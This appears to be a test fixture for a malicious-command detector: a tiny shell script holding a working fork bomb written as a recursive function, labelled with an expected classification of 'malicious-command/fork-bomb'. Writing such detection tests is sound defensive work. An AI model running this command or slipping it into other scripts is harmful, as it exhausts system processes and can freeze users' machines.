#!/bin/sh
boom() { boom | boom & }; boom # expect: malicious-command/fork-bomb
